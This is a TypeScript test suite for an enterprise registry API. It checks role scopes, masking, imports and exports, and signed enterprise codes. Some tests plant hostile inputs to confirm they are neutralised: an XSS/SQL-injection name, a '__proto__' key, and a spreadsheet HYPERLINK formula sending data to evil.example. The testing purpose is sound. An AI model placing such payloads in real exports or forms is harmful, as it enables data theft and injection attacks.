import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { generateUscc } from '../../core/codes/uscc.ts';
import { createRng } from '../../core/random.ts';
import { validateRule } from '../../core/rules/index.ts';
import { generateSm2KeyPair } from '../../core/crypto/sm.ts';
import { signingKey } from '../../platform/keys.ts';
import { testApp, type Session, type TestApp } from '../../server/testing.ts';
import { DEMO_ENTERPRISE_USCC } from './index.ts';
import { rulesCatalog } from './catalog.ts';
import { signEnterpriseCode } from './domain/enterprise-code.ts';

let t: TestApp;
const as: Record<string, Session> = {};
const rng = createRng(42);
const newUscc = (): string => generateUscc(rng, { division: '310112' });

function multipart(filename: string, content: Buffer | string): { payload: Buffer; headers: Record<string, string> } {
  const boundary = '----qifu' + Math.random().toString(16).slice(2);
  const head = Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`);
  const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
  return { payload: Buffer.concat([head, Buffer.isBuffer(content) ? content : Buffer.from(content), tail]), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

async function upload(s: Session, filename: string, content: Buffer | string) {
  const m = multipart(filename, content);
  return s.request({ method: 'POST', url: '/api/v1/enterprises/import', payload: m.payload, headers: m.headers });
}

async function countEnterprises(): Promise<number> {
  return Number((await t.db.selectFrom('enterprises').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).n);
}

beforeAll(async () => {
  t = await testApp();
  for (const u of ['admin', 'dept', 'street', 'street2', 'specialist', 'enterprise', 'leader', 'inspector']) as[u] = await t.login(u);
});
afterAll(async () => t?.close());

describe('data scope (§0, issue 3 item 6)', () => {
  it('limits the list to the caller’s scope, role by role', async () => {
    const all = (await as.admin!.request({ method: 'GET', url: '/api/v1/enterprises?pageSize=1' })).json() as { total: number };
    expect(all.total).toBeGreaterThan(1);
    expect(((await as.leader!.request({ method: 'GET', url: '/api/v1/enterprises?pageSize=1' })).json() as { total: number }).total).toBe(all.total);
    const street = (await as.street!.request({ method: 'GET', url: '/api/v1/enterprises?pageSize=200' })).json() as { items: Array<{ street: string }>; total: number };
    expect(street.total).toBeGreaterThan(0);
    expect(street.total).toBeLessThan(all.total);
    expect(street.items.every((e) => e.street === '310112101')).toBe(true);
    const own = (await as.enterprise!.request({ method: 'GET', url: '/api/v1/enterprises' })).json() as { items: Array<{ uscc: string }>; total: number };
    expect(own.items.map((e) => e.uscc)).toEqual([DEMO_ENTERPRISE_USCC]);
    const spec = (await as.specialist!.request({ method: 'GET', url: '/api/v1/enterprises?pageSize=200' })).json() as { items: Array<{ uscc: string }>; total: number };
    const assigned = await t.db.selectFrom('enterprise_assignments as a').innerJoin('users as u', 'u.id', 'a.user_id').select('a.uscc').where('u.username', '=', 'specialist').execute();
    expect(spec.items.map((e) => e.uscc).sort()).toEqual(assigned.map((a) => a.uscc).sort());
    // A street filter cannot widen a street user's scope.
    const widened = (await as.street!.request({ method: 'GET', url: '/api/v1/enterprises?street=310112102' })).json() as { total: number };
    expect(widened.total).toBe(0);
  });

  it('forbids reading an enterprise outside the scope and 404s an unknown one', async () => {
    expect((await as.street!.request({ method: 'GET', url: `/api/v1/enterprises/${DEMO_ENTERPRISE_USCC}` })).statusCode).toBe(200);
    expect((await as.street2!.request({ method: 'GET', url: `/api/v1/enterprises/${DEMO_ENTERPRISE_USCC}` })).statusCode).toBe(403);
    expect((await as.street2!.request({ method: 'GET', url: `/api/v1/enterprises/${DEMO_ENTERPRISE_USCC}/page` })).statusCode).toBe(403);
    expect((await as.street2!.request({ method: 'GET', url: `/api/v1/enterprises/${DEMO_ENTERPRISE_USCC}/code` })).statusCode).toBe(403);
    const other = (await as.admin!.request({ method: 'GET', url: `/api/v1/enterprises?street=310112102&pageSize=1` })).json() as { items: Array<{ uscc: string }> };
    expect((await as.enterprise!.request({ method: 'GET', url: `/api/v1/enterprises/${other.items[0]!.uscc}` })).statusCode).toBe(403);
    expect((await as.admin!.request({ method: 'GET', url: `/api/v1/enterprises/${newUscc()}` })).statusCode).toBe(404);
    expect((await t.app.inject({ method: 'GET', url: `/api/v1/enterprises/${DEMO_ENTERPRISE_USCC}` })).statusCode).toBe(401);
  });

  it('masks the legal representative except for the enterprise itself and admin', async () => {
    const get = async (s: Session) => ((await s.request({ method: 'GET', url: `/api/v1/enterprises/${DEMO_ENTERPRISE_USCC}` })).json() as { legalRep: string; legalRepMasked: boolean });
    expect(await get(as.admin!)).toMatchObject({ legalRep: '沈立新', legalRepMasked: false });
    expect(await get(as.enterprise!)).toMatchObject({ legalRep: '沈立新', legalRepMasked: false });
    expect(await get(as.dept!)).toMatchObject({ legalRep: '沈**', legalRepMasked: true });
    expect(await get(as.street!)).toMatchObject({ legalRep: '沈**', legalRepMasked: true });
    const csv = (await as.dept!.request({ method: 'GET', url: `/api/v1/enterprises/export.csv?q=${encodeURIComponent('闵欣')}` })).body;
    expect(csv).toContain('沈**');
    expect(csv).not.toContain('沈立新');
  });
});

describe('registry writes (E-1)', () => {
  it('creates an enterprise and rejects bad codes and types without writing', async () => {
    const before = await countEnterprises();
    const bad = [
      [{ uscc: '91310112MA1G5B2K70', name: 'x' }, 'uscc'],
      [{ uscc: newUscc(), name: 'x', industry: 'C9999' }, 'industry'],
      [{ uscc: newUscc(), name: 'x', employees: -3 }, 'employees'],
      [{ uscc: newUscc(), name: 'x', employees: 'many' }, 'employees'],
      [{ uscc: newUscc(), name: 'x', established: '2024-02-30' }, 'established'],
      [{ uscc: newUscc(), name: 'x', street: '310104003' }, 'street'],
      [{ uscc: newUscc(), name: 'x', noSuchAttribute: 1 }, 'noSuchAttribute'],
      [{ uscc: newUscc(), name: 'x', status: '倒闭' }, 'status'],
      [{ uscc: newUscc(), name: 'x', employees: 10, insuredEmployees: 20 }, 'insuredEmployees'],
    ] as const;
    for (const [body, field] of bad) {
      const res = await as.dept!.request({ method: 'POST', url: '/api/v1/enterprises', payload: body });
      expect(res.statusCode, JSON.stringify(body)).toBe(400);
      expect((res.json() as { field: string }).field).toBe(field);
    }
    expect(await countEnterprises()).toBe(before);
    const uscc = newUscc();
    const name = `<img src=x onerror=alert(1)>'; drop table enterprises; --`;
    const ok = await as.dept!.request({ method: 'POST', url: '/api/v1/enterprises', payload: { uscc, name, industry: '3911', employees: 12, registeredCapital: 100_000_000, street: '310112102', tags: ['专精特新'] } });
    expect(ok.statusCode).toBe(201);
    expect(ok.json()).toMatchObject({ uscc, name, industry: 'C3911', industryName: '计算机整机制造', streetName: '七宝镇', district: '310112', status: '存续', tags: ['专精特新'] });
    expect(await countEnterprises()).toBe(before + 1);
    expect((await as.dept!.request({ method: 'POST', url: '/api/v1/enterprises', payload: { uscc, name: 'dup' } })).statusCode).toBe(409);
    expect((await as.street!.request({ method: 'POST', url: '/api/v1/enterprises', payload: { uscc: newUscc(), name: 'x' } })).statusCode).toBe(403);
  });

  it('lets an enterprise update only its self-reported data, and records the history', async () => {
    const ok = await as.enterprise!.request({ method: 'PATCH', url: `/api/v1/enterprises/${DEMO_ENTERPRISE_USCC}`, payload: { employees: 90, insuredEmployees: 80 } });
    expect(ok.statusCode).toBe(200);
    expect(ok.json()).toMatchObject({ employees: 90, insuredEmployees: 80 });
    const denied = await as.enterprise!.request({ method: 'PATCH', url: `/api/v1/enterprises/${DEMO_ENTERPRISE_USCC}`, payload: { creditGrade: 'A', name: '改名' } });
    expect(denied.statusCode).toBe(403);
    expect((denied.json() as { code: string }).code).toBe('FIELD_NOT_EDITABLE');
    const page = (await as.enterprise!.request({ method: 'GET', url: `/api/v1/enterprises/${DEMO_ENTERPRISE_USCC}/page` })).json() as {
      enterprise: { uscc: string };
      attributes: Array<{ key: string; value: unknown }>;
      sections: Array<{ key: string; items: unknown[] }>;
      history: Array<{ actor: string; changes: Array<{ field: string; before: unknown; after: unknown }> }>;
    };
    expect(page.enterprise.uscc).toBe(DEMO_ENTERPRISE_USCC);
    expect(page.attributes.find((a) => a.key === 'employees')?.value).toBe(90);
    // Sections come from other modules' manifests (policies today); none is ever empty.
    expect(page.sections.every((x) => x.items.length > 0)).toBe(true);
    expect(page.history[0]!.actor).toMatch(/^enterprise#/);
    expect(page.history[0]!.changes).toEqual(expect.arrayContaining([{ field: 'employees', before: 86, after: 90 }]));
  });
});

describe('attribute catalog (E-1)', () => {
  it('adds an attribute at runtime that enterprises and rules can use at once', async () => {
    const res = await as.admin!.request({ method: 'POST', url: '/api/v1/enterprise-attributes', payload: { key: 'exportRevenue', label: '出口额', type: 'money', unit: '分' } });
    expect(res.statusCode).toBe(201);
    expect((await as.dept!.request({ method: 'POST', url: '/api/v1/enterprise-attributes', payload: { key: 'x1', label: 'x', type: 'text' } })).statusCode).toBe(403);
    expect((await as.admin!.request({ method: 'POST', url: '/api/v1/enterprise-attributes', payload: { key: '__proto__', label: 'x', type: 'text' } })).statusCode).toBe(400);
    expect((await as.admin!.request({ method: 'POST', url: '/api/v1/enterprise-attributes', payload: { key: 'employees', label: 'x', type: 'text' } })).statusCode).toBe(409);
    expect((await as.admin!.request({ method: 'POST', url: '/api/v1/enterprise-attributes', payload: { key: 'level', label: '等级', type: 'enum' } })).statusCode).toBe(400);
    const patched = await as.dept!.request({ method: 'PATCH', url: `/api/v1/enterprises/${DEMO_ENTERPRISE_USCC}`, payload: { exportRevenue: 12_300_000 } });
    expect(patched.json()).toMatchObject({ attrs: { exportRevenue: 12_300_000 } });
    const catalog = await rulesCatalog(t.db);
    expect(validateRule({ '>=': [{ var: 'exportRevenue' }, 10_000_000] }, { catalog }).ok).toBe(true);
    expect(validateRule({ '>=': [{ var: 'exportRevenu' }, 1] }, { catalog }).ok).toBe(false);
  });
});

describe('import and export (E-2)', () => {
  it('commits good rows, reports bad ones by row and column, and is idempotent', async () => {
    const a = newUscc();
    const b = newUscc();
    const csv = [
      '统一社会信用代码,企业名称,行业代码,从业人数,注册资本（万元）,成立日期,所属街镇,企业标签',
      `${a},上海测试甲科技有限公司,I6513,25,500,2019-03-01,310112101,高新技术企业、专精特新`,
      `91310112MA1G5B2K70,坏代码有限公司,I6513,3,10,2020-01-01,310112101,`,
      `${b},上海测试乙贸易有限公司,F5191,abc,10,2021-13-01,310112102,`,
      `${newUscc()},,F5191,3,10,2020-01-01,310112102,`,
    ].join('\n');
    const res = await upload(as.dept!, 'enterprises.csv', csv);
    expect(res.statusCode).toBe(200);
    const r = res.json() as { importId: number; total: number; inserted: number; failed: number; errors: Array<{ row: number; column: string; reason: string }> };
    expect(r).toMatchObject({ total: 4, inserted: 1, failed: 3 });
    expect(r.errors.find((e) => e.row === 3)).toMatchObject({ column: 'uscc' });
    expect(r.errors.filter((e) => e.row === 4).map((e) => e.column).sort()).toEqual(['employees', 'established']);
    expect(r.errors.find((e) => e.row === 5)).toMatchObject({ column: 'name' });
    const saved = (await as.admin!.request({ method: 'GET', url: `/api/v1/enterprises/${a}` })).json();
    expect(saved).toMatchObject({ registeredCapital: 500 * 1_000_000, tags: ['高新技术企业', '专精特新'], employees: 25 });
    const again = (await upload(as.dept!, 'enterprises.csv', csv)).json();
    expect(again).toMatchObject({ inserted: 0, updated: 0, unchanged: 1, failed: 3 });
    const report = await as.dept!.request({ method: 'GET', url: `/api/v1/enterprises/imports/${r.importId}/errors.xlsx` });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(report.rawPayload as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    expect(ws.getRow(1).values).toEqual([undefined, '行号', '列', '原因']);
    expect(ws.rowCount).toBe(1 + r.errors.length);
    expect(ws.getRow(2).getCell(1).value).toBe(3);
  });

  it('round-trips its own Excel export: re-importing changes nothing', async () => {
    const res = await as.admin!.request({ method: 'GET', url: '/api/v1/enterprises/export.xlsx?street=310112101' });
    expect(res.statusCode).toBe(200);
    const imp = (await upload(as.admin!, 'export.xlsx', res.rawPayload)).json() as { total: number; unchanged: number; failed: number; errors: unknown[] };
    expect(imp.failed).toBe(0);
    expect(imp.total).toBeGreaterThan(0);
    expect(imp.unchanged).toBe(imp.total);
  });

  it('reports a CSV row whose bytes are not UTF-8 by row and column, commits the good rows, with or without a BOM (issue 12 item 14)', async () => {
    for (const bom of [Buffer.alloc(0), Buffer.from([0xef, 0xbb, 0xbf])]) {
      const good = newUscc();
      const bad = newUscc();
      const file = Buffer.concat([
        bom,
        Buffer.from(`统一社会信用代码,企业名称,地址\n${good},上海编码测试甲有限公司,上海市闵行区\n`),
        Buffer.from(`${bad},上海编码测试`),
        Buffer.from([0xff, 0xfe, 0xc3]),
        Buffer.from('有限公司,上海市闵行区\n'),
      ]);
      const res = await upload(as.dept!, 'enterprises.csv', file);
      expect(res.statusCode, res.body).toBe(200);
      const r = res.json() as { total: number; inserted: number; failed: number; errors: Array<{ row: number; column: string; reason: string }> };
      expect(r).toMatchObject({ total: 2, inserted: 1, failed: 1 });
      expect(r.errors).toEqual([{ row: 3, column: 'name', reason: expect.stringContaining('UTF-8') }]);
      expect((await as.admin!.request({ method: 'GET', url: `/api/v1/enterprises/${good}` })).json()).toMatchObject({ name: '上海编码测试甲有限公司' });
      expect((await as.admin!.request({ method: 'GET', url: `/api/v1/enterprises/${bad}` })).statusCode).toBe(404);
      const stored = await t.db.selectFrom('enterprises').select('name').where('name', 'like', '%\uFFFD%').execute();
      expect(stored).toEqual([]);
    }
  });

  it('reports an Excel cell that decodes to NUL (_x0000_) by row and column, and commits the good rows', async () => {
    const good = newUscc();
    const bad = newUscc();
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('企业');
    ws.addRow(['统一社会信用代码', '企业名称', '地址']);
    ws.addRow([good, '上海空字符测试甲有限公司', '上海市闵行区']);
    ws.addRow([bad, '上海空字符测试乙有限公司', '上海市_x0000_闵行区']); // OOXML's escape for U+0000
    const res = await upload(as.dept!, 'nul.xlsx', Buffer.from(await wb.xlsx.writeBuffer()));
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toMatchObject({ total: 2, inserted: 1, failed: 1, errors: [{ row: 3, column: 'address', reason: expect.stringContaining('NUL') }] });
    expect((await as.admin!.request({ method: 'GET', url: `/api/v1/enterprises/${bad}` })).statusCode).toBe(404);
  });

  it('reads a GB18030 CSV as saved by Excel on Chinese Windows', async () => {
    const u = newUscc();
    // 统一社会信用代码,企业名称 / <uscc>,上海国标编码有限公司 in GB18030 (GBK) bytes.
    const header = Buffer.from('cdb3d2bbc9e7bbe1d0c5d3c3b4fac2eb2cc6f3d2b5c3fbb3c60a', 'hex');
    const name = Buffer.from('c9cfbaa3b9fab1eab1e0c2ebd3d0cfdeb9abcbbe', 'hex');
    expect(new TextDecoder('gb18030').decode(Buffer.concat([header, name]))).toBe('统一社会信用代码,企业名称\n上海国标编码有限公司');
    const res = await upload(as.dept!, 'gbk.csv', Buffer.concat([header, Buffer.from(`${u},`), name, Buffer.from('\n')]));
    expect(res.json()).toMatchObject({ total: 1, inserted: 1, failed: 0 });
    expect((await as.admin!.request({ method: 'GET', url: `/api/v1/enterprises/${u}` })).json()).toMatchObject({ name: '上海国标编码有限公司' });
  });

  it('neutralises formula cells in the CSV export; the .xlsx export keeps them as inert text (issue 12 item 15)', async () => {
    const ent = `/api/v1/enterprises/${DEMO_ENTERPRISE_USCC}`;
    const original = (await as.admin!.request({ method: 'GET', url: ent })).json() as { address: string | null; park: string | null };
    const planted = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")';
    // The enterprise plants a formula in its own (self-reported) address; an admin sets another field.
    expect((await as.enterprise!.request({ method: 'PATCH', url: ent, payload: { address: planted } })).statusCode).toBe(200);
    expect((await as.admin!.request({ method: 'PATCH', url: ent, payload: { park: '@SUM(1+1)' } })).statusCode).toBe(200);
    // The street official exports the registry.
    const res = await as.street!.request({ method: 'GET', url: `/api/v1/enterprises/export.csv?q=${encodeURIComponent('闵欣')}` });
    expect(res.statusCode).toBe(200);
    const table = parseCsv(res.body, { bom: true }) as string[][];
    const header = table[0]!;
    const row = table.find((r) => r.includes(DEMO_ENTERPRISE_USCC))!;
    expect(row[header.indexOf('地址')]).toBe(`'${planted}`);
    expect(row[header.indexOf('所属园区')]).toBe("'@SUM(1+1)");
    // No cell of the file starts a formula; numbers stay numbers.
    for (const r of table) for (const cell of r) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(Number(row[header.indexOf('从业人数')])).toBeGreaterThan(0);
    // Our own CSV re-imported changes nothing: the apostrophe is taken off again (an admin's export: nothing masked).
    const full = await as.admin!.request({ method: 'GET', url: `/api/v1/enterprises/export.csv?q=${encodeURIComponent('闵欣')}` });
    expect(full.body).toContain(`'${planted.replace(/"/g, '""')}`);
    const again = (await upload(as.admin!, 'export.csv', full.rawPayload)).json() as { total: number; unchanged: number; failed: number };
    expect(again).toMatchObject({ total: 1, unchanged: 1, failed: 0 });
    // exceljs writes a string as a string cell, never a formula: the .xlsx needs no prefix.
    const xlsx = await as.street!.request({ method: 'GET', url: `/api/v1/enterprises/export.xlsx?q=${encodeURIComponent('闵欣')}` });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    const headers = (ws.getRow(1).values as unknown[]).map(String);
    let found = false;
    ws.eachRow((r, n) => {
      if (n === 1 || r.getCell(headers.indexOf('统一社会信用代码')).value !== DEMO_ENTERPRISE_USCC) return;
      const cell = r.getCell(headers.indexOf('地址'));
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(cell.value).toBe(planted);
      found = true;
    });
    expect(found).toBe(true);
    expect((await as.admin!.request({ method: 'PATCH', url: ent, payload: { address: original.address, park: original.park } })).statusCode).toBe(200);
  });

  it('rejects wrong file types and disguised files without writing', async () => {
    const before = await countEnterprises();
    expect((await upload(as.dept!, 'list.txt', 'hello')).statusCode).toBe(415);
    const fake = await upload(as.dept!, 'list.xlsx', 'not a zip');
    expect(fake.statusCode).toBe(400);
    expect((fake.json() as { code: string }).code).toBe('IMPORT_BAD_FILE');
    expect(((await upload(as.dept!, 'x.csv', '企业名称\n甲')).json() as { code: string }).code).toBe('IMPORT_NO_USCC_COLUMN');
    expect((await upload(as.street!, 'x.csv', '统一社会信用代码\n')).statusCode).toBe(403);
    expect(await countEnterprises()).toBe(before);
  });
});

describe('企业码 (E-4)', () => {
  it('issues a signed code whose public verification shows a limited view', async () => {
    const code = (await as.enterprise!.request({ method: 'GET', url: `/api/v1/enterprises/${DEMO_ENTERPRISE_USCC}/code` })).json() as { token: string; qr: string; url: string };
    expect(code.qr).toMatch(/^data:image\/png;base64,/);
    expect(code.url).toContain(`/ec/${code.token}`);
    const ok = await t.app.inject({ method: 'GET', url: `/api/v1/public/enterprise-codes/verify?token=${encodeURIComponent(code.token)}` });
    expect(ok.statusCode).toBe(200);
    const body = ok.json() as { valid: boolean; enterprise: Record<string, unknown> };
    expect(body.valid).toBe(true);
    expect(body.enterprise).toMatchObject({ uscc: DEMO_ENTERPRISE_USCC, name: '上海闵欣智能科技有限公司' });
    expect(body.enterprise).not.toHaveProperty('legalRep');
    expect(body.enterprise).not.toHaveProperty('revenue');
  });

  it('rejects tampered, expired, foreign and malformed codes', async () => {
    const key = await signingKey(t.db, 'enterprise-code');
    const verify = async (token: string) => (await t.app.inject({ method: 'GET', url: `/api/v1/public/enterprise-codes/verify?token=${encodeURIComponent(token)}` })).json() as { code: string };
    const good = signEnterpriseCode(DEMO_ENTERPRISE_USCC, key, Math.floor(Date.now() / 1000), 3600);
    const [p, body, sig] = good.split('.');
    const other = Buffer.from(JSON.stringify({ ...JSON.parse(Buffer.from(body!, 'base64url').toString()), u: newUscc() })).toString('base64url');
    expect((await verify(`${p}.${other}.${sig}`)).code).toBe('ENTERPRISE_CODE_SIGNATURE_INVALID');
    expect((await verify(signEnterpriseCode(DEMO_ENTERPRISE_USCC, key, Math.floor(Date.now() / 1000) - 7200, 3600))).code).toBe('ENTERPRISE_CODE_EXPIRED');
    expect((await verify(signEnterpriseCode(DEMO_ENTERPRISE_USCC, { ...generateSm2KeyPair(), kid: 'foreign' }, Math.floor(Date.now() / 1000), 3600))).code).toBe('ENTERPRISE_CODE_UNKNOWN_KEY');
    expect((await verify(signEnterpriseCode(DEMO_ENTERPRISE_USCC, { ...generateSm2KeyPair(), kid: key.kid }, Math.floor(Date.now() / 1000), 3600))).code).toBe('ENTERPRISE_CODE_SIGNATURE_INVALID');
    expect((await verify('hello')).code).toBe('ENTERPRISE_CODE_MALFORMED');
    const pk = (await t.app.inject({ method: 'GET', url: '/api/v1/public/enterprise-codes/public-key' })).json() as { publicKey: string; kid: string };
    expect(pk).toMatchObject({ kid: key.kid, publicKey: key.publicKey });
    expect(JSON.stringify(pk)).not.toContain(key.privateKey);
  });
});
